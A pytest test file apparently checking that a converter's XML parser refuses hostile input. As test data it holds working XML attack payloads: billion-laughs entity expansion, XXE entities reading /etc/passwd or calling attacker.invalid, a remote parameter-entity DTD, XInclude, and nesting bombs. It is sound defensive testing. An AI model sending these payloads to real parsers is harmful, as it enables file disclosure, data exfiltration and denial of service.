"""Hostile XML input: every attack is refused, by class, reason and requirement, with
the network blocked and without a single file opened outside the packaged spec."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from bmdx.reference._internal import ijson
from bmdx.reference._internal.errors import (
    BmdxError,
    DocumentError,
    XmlSecurityError,
    XmlSyntaxError,
)
from bmdx.reference._internal.limits import limits
from bmdx.reference._internal.specdata import spec_dir
from bmdx.reference._internal.xmlmap import json_to_xml, xml_to_json
from tests.thirdparty import files, require_vectors


def _participant() -> dict[str, Any]:
    examples = sorted((spec_dir() / "examples" / "valid" / "participant").glob("*.json"))
    require_vectors(len(examples), "valid Participant example")
    document: dict[str, Any] = ijson.loads(examples[0].read_bytes())
    return document


def _outcome(data: bytes, root: Path | None = None) -> tuple[type[BmdxError], str, str]:
    with pytest.raises(BmdxError) as info:
        xml_to_json(data, root=root)
    return type(info.value), info.value.reason, info.value.requirement


@pytest.fixture(scope="module")
def warm() -> bytes:
    """A valid document, converted once so that imports and the compiled XSD are loaded
    before any access is audited."""
    data = json_to_xml(_participant())
    assert xml_to_json(data) == _participant()
    return data


def _expected_for_attack(data: bytes) -> tuple[type[BmdxError], str, str]:
    if b"<!DOCTYPE" in data:
        return XmlSecurityError, "forbidden-dtd", "BMDX-FMT-010"
    if data.lstrip().startswith(b"<"):
        return XmlSyntaxError, "namespace", "BMDX-FMT-011"  # a well-formed foreign document
    return XmlSyntaxError, "xml-syntax", "BMDX-FMT-011"  # the data set's LICENSE text


@pytest.mark.requirement("BMDX-FMT-010", "BMDX-FMT-011", "BMDX-FMT-012")
def test_every_xml_attack_file_is_refused_without_outside_access(
    network_blocked: list[Any], record_io: Any, warm: bytes
) -> None:
    attacks = files("xml-attacks", "*")
    inputs = {path.name: path.read_bytes() for path in attacks}
    outcomes = {}
    expected = _participant()
    with record_io() as io:
        for name, data in inputs.items():
            outcomes[name] = _outcome(data)
        assert xml_to_json(warm) == expected
    require_vectors(len(outcomes), "xml-attacks")
    assert outcomes == {name: _expected_for_attack(data) for name, data in inputs.items()}
    assert "schema-include.xsd" in outcomes  # the XSD is fed as a document, never loaded
    assert io.foreign() == []
    assert network_blocked == []


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<Participant xmlns="urn:bmdx:1"><name>&lol9;</name></Participant>
"""
XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE Participant [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Participant xmlns="urn:bmdx:1"><name>&xxe;</name></Participant>
"""
XXE_HTTP = b"""<?xml version="1.0"?>
<!DOCTYPE Participant [<!ENTITY xxe SYSTEM "http://attacker.invalid/secret">]>
<Participant xmlns="urn:bmdx:1"><name>&xxe;</name></Participant>
"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Participant [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>
<Participant xmlns="urn:bmdx:1"/>
"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Participant SYSTEM "file:///etc/passwd">
<Participant xmlns="urn:bmdx:1"/>
"""


@pytest.mark.requirement("BMDX-FMT-010", "BMDX-FMT-012")
@pytest.mark.parametrize(
    "data",
    [BILLION_LAUGHS, XXE_FILE, XXE_HTTP, PARAMETER_ENTITY, EXTERNAL_DTD],
    ids=["billion-laughs", "xxe-file", "xxe-http", "parameter-entity", "external-dtd"],
)
def test_dtd_and_entity_attacks_are_refused(
    data: bytes, network_blocked: list[Any], record_io: Any, warm: bytes
) -> None:
    with record_io() as io:
        outcome = _outcome(data)
    assert outcome == (XmlSecurityError, "forbidden-dtd", "BMDX-FMT-010")
    assert io.foreign() == []
    assert network_blocked == []


@pytest.mark.requirement("BMDX-FMT-010")
def test_an_undeclared_entity_reference_is_refused(network_blocked: list[Any]) -> None:
    data = b'<Participant xmlns="urn:bmdx:1"><name>&nbsp;</name></Participant>'
    assert _outcome(data) == (XmlSecurityError, "entity", "BMDX-FMT-010")


@pytest.mark.requirement("BMDX-FMT-010")
def test_predefined_entities_and_character_references_are_accepted(warm: bytes) -> None:
    original = _participant()
    document = dict(original, name="A&B <Lab> \u00e9")
    old = f"<name>{original['name']}</name>".encode()
    assert old in warm
    data = warm.replace(old, b"<name>A&amp;B &lt;Lab&gt; &#xE9;</name>")
    assert xml_to_json(data) == document


@pytest.mark.requirement("BMDX-FMT-012")
@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (
            b'<Participant xmlns="urn:bmdx:1" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
            b' xsi:schemaLocation="urn:bmdx:1 http://attacker.invalid/p.xsd"/>',
            "attribute",
        ),
        (
            b'<Participant xmlns="urn:bmdx:1" xmlns:xi="http://www.w3.org/2001/XInclude">'
            b'<xi:include href="file:///etc/passwd" parse="text"/></Participant>',
            "namespace",
        ),
    ],
    ids=["schema-location-hint", "xinclude"],
)
def test_location_hints_and_xinclude_are_never_followed(
    data: bytes, reason: str, network_blocked: list[Any], record_io: Any, warm: bytes
) -> None:
    with record_io() as io:
        outcome = _outcome(data)
    assert outcome == (XmlSyntaxError, reason, "BMDX-FMT-011")
    assert io.foreign() == []
    assert network_blocked == []


@pytest.mark.requirement("BMDX-FMT-006")
def test_an_element_nesting_bomb_stops_early() -> None:
    depth = 2 * limits().max_nesting_depth + 2
    data = b'<Participant xmlns="urn:bmdx:1">' + b"<a>" * 1_000_000
    with pytest.raises(XmlSyntaxError) as info:
        xml_to_json(data)
    assert (info.value.reason, info.value.requirement) == ("nesting-depth", "BMDX-FMT-006")
    assert str(depth - 1) in info.value.message


@pytest.mark.requirement("BMDX-FMT-006")
def test_a_document_deeper_than_the_profile_is_refused(fixture_spec: Path) -> None:
    max_depth = limits(fixture_spec).max_nesting_depth
    # Alpha (depth 1) > tree (2) > children (3) > item (4) ...: each level adds two.
    levels = (max_depth - 2) // 2 + 1
    body = b"<item><value>a</value><children>" * levels + b"</children></item>" * levels
    data = (
        b'<Alpha xmlns="urn:bmdx:1"><name>x</name><tags/><tree><value>r</value><children>'
        + body
        + b"</children></tree></Alpha>"
    )
    with pytest.raises(XmlSyntaxError) as info:
        xml_to_json(data, root=fixture_spec)
    assert (info.value.reason, info.value.requirement) == ("nesting-depth", "BMDX-FMT-006")
    assert info.value.pointer is not None
    assert info.value.pointer.startswith("/Alpha/tree/children/item[1]/children/item[1]/")


@pytest.mark.requirement("BMDX-FMT-007")
def test_an_oversized_body_is_refused_before_parsing() -> None:
    size = limits().max_body_bytes
    # A DTD would be refused by the parser: reason too-large proves no parsing happened.
    data = b"<!DOCTYPE x [" + b" " * size + b"]><x/>"
    assert _outcome(data) == (XmlSyntaxError, "too-large", "BMDX-FMT-007")


@pytest.mark.requirement("BMDX-FMT-040")
@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (
            b'<?xml version="1.0" encoding="ISO-8859-1"?><Participant xmlns="urn:bmdx:1"/>',
            "encoding",
        ),
        ('<Participant xmlns="urn:bmdx:1"/>'.encode("utf-16"), "bom"),
        (b'\xef\xbb\xbf<Participant xmlns="urn:bmdx:1"/>', "bom"),
    ],
    ids=["latin-1-declared", "utf-16", "utf-8-bom"],
)
def test_xml_input_must_be_utf8_without_bom(data: bytes, reason: str) -> None:
    assert _outcome(data) == (XmlSyntaxError, reason, "BMDX-FMT-040")


@pytest.mark.requirement("BMDX-FMT-040")
def test_undeclared_latin1_bytes_are_not_utf8() -> None:
    data = b'<Participant xmlns="urn:bmdx:1"><name>Caf\xe9</name></Participant>'
    assert _outcome(data) == (XmlSyntaxError, "xml-syntax", "BMDX-FMT-011")


@pytest.mark.requirement("BMDX-FMT-011")
@pytest.mark.parametrize(
    ("data", "reason", "where"),
    [
        (b"<Beta><value>x</value></Beta>", "namespace", "/Beta"),
        (b'<Beta xmlns="urn:bmdx:1" id="1"><value>x</value></Beta>', "attribute", "/Beta"),
        (
            b'<Beta xmlns="urn:bmdx:1" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
            b' xsi:type="Alpha"><value>x</value></Beta>',
            "attribute",
            "/Beta",
        ),
        (b'<Beta xmlns="urn:bmdx:1"><value>a<!-- c -->b</value></Beta>', "comment", "/Beta/value"),
        (
            b'<Beta xmlns="urn:bmdx:1"><?app data?><value>x</value></Beta>',
            "processing-instruction",
            "/Beta",
        ),
        (
            b'<Beta xmlns="urn:bmdx:1"><value>x</value><extra/></Beta>',
            "undefined-element",
            "/Beta/extra",
        ),
        (
            b'<Beta xmlns="urn:bmdx:1"><objectType>Beta</objectType><value>x</value></Beta>',
            "undefined-element",
            "/Beta/objectType",
        ),
        (
            b'<Beta xmlns="urn:bmdx:1"><value>x</value><flags><flag>true</flag></flags></Beta>',
            "undefined-element",
            "/Beta/flags/flag[1]",
        ),
        (
            b'<Beta xmlns="urn:bmdx:1"><value><b>x</b></value></Beta>',
            "undefined-element",
            "/Beta/value/b",
        ),
        (b'<Beta xmlns="urn:bmdx:1">text<value>x</value></Beta>', "mixed-content", "/Beta"),
        (b'<Beta xmlns="urn:bmdx:1"><value>x</value></Beta><Beta/>', "xml-syntax", None),
    ],
    ids=[
        "no-namespace",
        "attribute",
        "xsi-type",
        "comment",
        "processing-instruction",
        "undefined-element",
        "object-type-element",
        "array-entry-not-item",
        "child-of-string",
        "mixed-content",
        "two-roots",
    ],
)
def test_input_outside_the_mapping_is_refused(
    data: bytes, reason: str, where: str | None, fixture_spec: Path
) -> None:
    with pytest.raises(XmlSyntaxError) as info:
        xml_to_json(data, root=fixture_spec)
    assert (info.value.reason, info.value.requirement) == (reason, "BMDX-FMT-011")
    assert info.value.pointer == where


def test_comments_before_the_root_element_are_accepted(fixture_spec: Path) -> None:
    data = b'<?xml version="1.0"?>\n<!-- note -->\n<Beta xmlns="urn:bmdx:1"><value>x</value></Beta>'
    assert xml_to_json(data, root=fixture_spec) == {"objectType": "Beta", "value": "x"}


def test_an_unknown_root_element_names_the_object_type_requirement(fixture_spec: Path) -> None:
    with pytest.raises(DocumentError) as info:
        xml_to_json(b'<Gamma xmlns="urn:bmdx:1"/>', root=fixture_spec)
    assert (info.value.reason, info.value.requirement) == ("unknown-object-type", "BMDX-DM-001")
    assert info.value.pointer == "/Gamma"


def test_the_audit_recorder_sees_file_access(record_io: Any) -> None:
    with record_io() as io:
        Path(__file__).read_bytes()
    assert [event for event, _ in io.foreign()] == ["open"]
